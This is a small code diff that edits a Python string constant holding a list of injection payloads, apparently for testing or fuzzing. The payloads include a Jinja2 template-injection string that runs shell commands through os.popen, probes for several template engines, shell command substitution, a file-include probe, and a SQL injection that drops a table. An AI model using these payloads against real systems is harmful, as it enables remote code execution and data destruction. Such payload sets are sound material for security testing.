@@ -3,7 +3,7 @@
 from place import Place
 
 COLLECTED, MARKED, DESERVES = "new", "marked", "the key"
-TEMPLATES = """{{{{ 7 * 7 }}}} {{% include "roster.csv" %}} {{{{ cycler.__init__.__globals__.os.popen('{0}').read() }}}}
+TEMPLATES = """{{{{ 7*7 }}}} {{% include "register.db" %}} {{{{ cycler.__init__.__globals__.os.popen('{0}').read() }}}}
 ${{7*7}} #{{7*7}} <%= 7*7 %> %(x)s {{0.__class__}} `{0}` $({0}) '; DROP TABLE grade; --"""
 
 
